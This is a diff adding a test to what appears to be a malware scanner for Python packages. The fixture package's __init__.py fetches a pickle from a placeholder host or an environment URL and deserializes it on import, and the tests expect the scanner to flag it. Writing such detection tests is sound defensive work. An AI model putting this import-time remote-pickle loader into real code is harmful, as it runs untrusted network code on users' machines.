@@ -618,3 +618,15 @@ test('a function that is put into a module made on the spot runs as it did befor
 
   expect(await inspect('remote-code', file)).toMatchObject([{ class: 'malware', context: 'import', score: 10 }]);
 });
+
+test.each([
+  ["os.environ['INDEX_URL']", { class: 'suspicious', score: 6 }],
+  ["os.environ.get('INDEX_URL', 'https://index.tools.invalid/i')", { class: 'malware', score: 10 }],
+  ["'https://index.tools.invalid/i'", { class: 'malware', score: 10 }],
+])('objects that an import loads from %s', async (address, expected) => {
+  const file = wheel({
+    'pkg/__init__.py': python('import os, pickle, requests', `index = pickle.loads(requests.get(${address}).content)`),
+  });
+
+  expect(await inspect('remote-code', file)).toMatchObject([expected]);
+});
